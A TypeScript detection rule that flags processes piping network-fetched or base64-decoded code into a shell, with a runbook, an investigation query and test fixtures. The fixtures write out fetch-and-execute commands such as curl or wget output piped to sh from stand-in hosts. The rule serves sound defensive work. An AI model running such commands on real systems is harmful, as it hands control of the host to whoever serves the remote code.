import { fetchedAddresses } from '../../src/detect/reading/fetched-addresses.ts'
import {
  asTyped,
  isProgramStart,
  PROGRAM_START_TABLES,
  shortened,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { runsDecodedCode, runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { isOddSource } from '../data/fetch-sources.ts'
import { isKnownInstaller } from '../data/known-installers.ts'

export default rule({
  id: 'posix.runs-fetched-code',
  title: 'Program runs code that it fetches or decodes',
  severity: 'medium',
  on: joining(table(...PROGRAM_START_TABLES), 'parent_path'),
  attack: ['T1059.004', 'T1105', 'T1140'],
  detect: ({ columns }) => {
    if (!isProgramStart(columns)) return false
    const line = asTyped(columns.cmdline)
    return runsFetchedCode(line) || runsDecodedCode(line)
  },
  exclude: ({ columns }) => isKnownInstaller(columns.cmdline),
  dynamicSeverity: ({ columns }) => {
    const line = asTyped(columns.cmdline)
    return runsDecodedCode(line) || fetchedAddresses(line).some(isOddSource) ? 'high' : undefined
  },
  alertTitle: ({ host, columns }) => `${host} runs code that it fetches: ${shortened(columns.cmdline)}`,
  context: ({ columns }) => toldProgram(columns),
  means:
    'Code went from the network, or out of a coded text, straight into a shell. Nothing of it stays on the disk, and what it did depends on what the other end sent at that moment.',
  check:
    "SELECT time, pid, parent, path, cmdline, auid FROM process_events WHERE cmdline LIKE '%curl%' OR cmdline LIKE '%wget%' OR cmdline LIKE '%base64%' ORDER BY time DESC LIMIT 50;",
  benign:
    'Installers of software that are not on the list yet, builds of images, scripts of your own for setting up hosts.',
  runbook:
    'Fetch the address from a safe machine and read it. Is it an installer, and did someone want it? Otherwise see what ran next (process events by parent), what it left (cron, units, keys, files in /tmp), and isolate the host.',
  references: [
    'https://attack.mitre.org/techniques/T1105/',
    'https://attack.mitre.org/techniques/T1059/004/',
  ],
  tests: [
    {
      name: 'from a bare address',
      match: true,
      table: 'process_events',
      columns: {
        path: '/bin/sh',
        cmdline: 'sh -c curl -fsSL http://198.51.100.7/a | sh',
        pid: '7',
        parent: '1',
        uid: '0',
        cwd: '/',
      },
      title: 'test-host runs code that it fetches: sh -c curl -fsSL http://198.51.100.7/a | sh',
      dedup: 'test-host-id',
      severity: 'high',
      context: {
        program: '/bin/sh',
        command: 'sh -c curl -fsSL http://198.51.100.7/a | sh',
        pid: '7',
        parent: '1',
        folder: '/',
        uid: '0',
        euid: '',
        login: '',
        time: '',
      },
    },
    {
      name: 'from a name nobody knows',
      match: true,
      table: 'bpf_process_events',
      columns: { cmdline: 'bash -c wget -qO- https://example.com/setup.sh | bash' },
      severity: 'medium',
    },
    {
      name: 'out of a coded text',
      match: true,
      table: 'process_events',
      columns: { cmdline: 'sh -c echo aWQK | base64 -d | bash' },
      severity: 'high',
    },
    {
      name: 'an installer and a stranger',
      match: true,
      table: 'es_process_events',
      columns: {
        event_type: 'exec',
        cmdline: 'sh -c curl https://sh.rustup.rs | sh; curl https://rentry.co/x/raw | sh',
      },
      severity: 'high',
    },
    {
      name: 'an installer of its vendor',
      match: false,
      table: 'process_events',
      columns: { cmdline: '/bin/sh -c curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y' },
    },
    {
      name: 'an installer on a host where anyone may publish',
      match: false,
      table: 'process_events',
      columns: {
        cmdline: 'bash -c curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash',
      },
    },
    {
      name: 'somebody else on that host',
      match: true,
      table: 'process_events',
      columns: { cmdline: 'bash -c curl https://raw.githubusercontent.com/example/a/main/i.sh | bash' },
    },
    {
      name: 'only fetched',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl -fsS -o /tmp/a.tar.gz https://example.com/a.tar.gz' },
    },
    {
      name: 'only looked at',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'sh -c curl -s http://198.51.100.7/health | grep -q ok' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { event_type: 'exit', cmdline: 'sh -c curl http://198.51.100.7/a | sh' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'process_events',
      columns: { cmdline: 'sh -c curl http://198.51.100.7/a | sh' },
    },
  ],
})
